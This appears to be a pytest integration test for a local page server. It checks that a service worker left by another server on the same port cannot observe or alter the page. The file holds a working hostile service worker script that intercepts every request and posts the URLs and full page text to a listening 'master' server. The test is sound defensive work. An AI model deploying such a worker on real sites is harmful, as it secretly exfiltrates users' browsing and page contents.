"""A service worker that another user's server at the port has left in a real Chromium."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import pytest

from bftrainer.api.client import Client
from bftrainer.api.page.door import Door, PageAddress
from bftrainer.api.page.listeners import listening
from bftrainer.api.page.server import app, serving_beside
from bftrainer.api.page.source import LiveSource
from tests.integration.api.test_page_browser import Page, record
from tests.integration.cli_fixtures import home, service
from tests.support.browser import chromium
from tests.support.memory_service import MemoryService, socket_of
from tests.support.timelines import PLAN, trained
from tests.support.waiting import wait_for

__all__ = ["home", "service"]
pytestmark = pytest.mark.long

OLD_NAMES = ("127.0.0.1", "localhost", "bft-0123456789abcdef.localhost")
_FOREIGN = "<!doctype html><script>navigator.serviceWorker.register('/worker.js')</script>foreign"
# It tells its master of all that passes, and puts a script of its own into each page.
_WORKER = """
const tell = (body) => fetch("http://127.0.0.1:%d/", { method: "POST", mode: "no-cors", body });
self.oninstall = () => self.skipWaiting();
self.onactivate = (event) => event.waitUntil(clients.claim());
self.onfetch = (event) => event.respondWith((async () => {
  await tell(`asked for ${event.request.url}`);
  const answer = await fetch(event.request);
  if (event.request.mode !== "navigate") return answer;
  await tell(`read ${await answer.clone().text()}`);
  return answer;
})());
"""


@dataclass(slots=True)
class Master:
    """The other user: has a server at the page's port, and hears at one of its own."""

    heard: list[str] = field(default_factory=list)
    port: int = 0

    @contextmanager
    def hears(self) -> Iterator[Master]:
        """Hear what workers tell."""
        heard = self.heard

        class Ear(_Quiet):
            def do_POST(self) -> None:
                heard.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
                self.answer("text/plain", "")

        with _served(Ear) as self.port:
            yield self

    def was_at(self, driver: Any) -> int:
        """Serve the browser at a port, under several names; return the port, which is free then."""
        worker = _WORKER % self.port

        class Foreign(_Quiet):
            def do_GET(self) -> None:
                if self.path == "/worker.js":
                    self.answer("text/javascript", worker)
                else:
                    self.answer("text/html", _FOREIGN)

        with _served(Foreign) as port:
            for name in OLD_NAMES:
                driver.get(f"http://{name}:{port}/")
                wait_for(lambda: is_controlled(driver), what=f"a worker at {name}")
                driver.get(f"http://{name}:{port}/again")
            wait_for(lambda: len(self.heard) >= 2 * len(OLD_NAMES), what="workers tell")
            driver.get("about:blank")
        self.heard.clear()
        return port


class _Quiet(BaseHTTPRequestHandler):
    def answer(self, kind: str, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def _served(handler: type[_Quiet]) -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    serving = Thread(target=server.serve_forever)
    serving.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        serving.join()
        server.server_close()


def name_of(links: list[str]) -> str:
    return str(urlsplit(links[0]).hostname)


def is_controlled(driver: Any) -> bool:
    return bool(driver.execute_script("return navigator.serviceWorker.controller !== null"))


@contextmanager
def served(address: PageAddress, service: MemoryService) -> Iterator[list[str]]:
    """Serve the page; yield its links."""
    service.records["t1"] = record("t1")
    service.saw(trained(time.time(), n1="t1"), PLAN)
    links = list[str]()
    with listening(port=address.port) as listeners:
        door = Door(address, links.append)
        with serving_beside(app(LiveSource(Client(socket_of()), "a site"), door), listeners):
            door.offer()
            yield links


def test_an_old_worker_at_the_port_neither_sees_nor_changes_the_page(
    service: MemoryService,
) -> None:
    with Master().hears() as master, chromium() as driver:
        port = master.was_at(driver)
        with served(PageAddress(port=port), service) as links:
            page = Page(driver=driver, service=service, links=links)
            page.open()
            page.says("net", "#trainers")
            assert not is_controlled(driver)
            assert page.run("return document.scripts.length") == 1
            assert master.heard == []
            for name in OLD_NAMES:  # where it is at work still
                driver.get(f"http://{name}:{port}/")
                wait_for(lambda: "is no address of this page" in page.text("body"))
            assert name_of(links) not in " ".join(master.heard)
            driver.get("about:blank")


def test_at_a_name_that_is_used_twice_it_would_have_seen_it(service: MemoryService) -> None:
    """What the other test shows is not for want of an attack."""
    with Master().hears() as master, chromium() as driver:
        port = master.was_at(driver)
        with served(PageAddress(port=port, name=OLD_NAMES[-1]), service) as links:
            page = Page(driver=driver, service=service, links=links)
            page.open()
            assert is_controlled(driver)
            assert any("explain" in text or "events" in text for text in master.heard)
            driver.get("about:blank")
